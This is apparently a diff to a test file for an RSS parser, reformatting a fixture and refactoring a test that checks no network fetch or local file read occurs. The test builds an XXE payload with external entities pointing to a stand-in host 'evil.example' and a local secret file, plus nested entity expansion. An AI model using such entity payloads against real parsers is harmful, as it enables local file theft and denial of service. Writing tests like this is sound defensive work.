@@ -24,7 +24,8 @@ RSS = """<?xml version="1.0" encoding="utf-8"?>
  <dc:creator>Lene Marrow</dc:creator>
  <category>Harbour</category><category>Ostrin</category>
  <description>Fog again.</description>
- <content:encoded><![CDATA[<p>The fog stays.</p><p>“I like it,” said <b>Mira Tolland</b>.</p>]]></content:encoded>
+ <content:encoded><![CDATA[<p>The fog stays.</p>
+ <p>“I like it,” said <b>Mira Tolland</b>.</p>]]></content:encoded>
 </item>
 <item><guid>18</guid><title>Short</title><description>Only this: fish &amp;amp; chips.
 
@@ -156,8 +157,9 @@ def test_nothing_is_fetched_and_no_file_is_read(tmp_path: Path, monkeypatch: pyt
     monkeypatch.setattr(socket, "getaddrinfo", refuse)
     monkeypatch.setattr(socket.socket, "connect", refuse)
     (tmp_path / "secret").write_text("the secret")
+    secret = (tmp_path / "secret").as_uri()
     head = (
-        f'<!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" [<!ENTITY x SYSTEM "{(tmp_path / "secret").as_uri()}">'
+        f'<!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" [<!ENTITY x SYSTEM "{secret}">'
         '<!ENTITY y SYSTEM "http://evil.example/"><!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>'
     )
     feed = RSS.replace("<rss ", f"{head}<rss ").replace("Fog again.", "F").replace("Only this", "&x;&y;&c;")
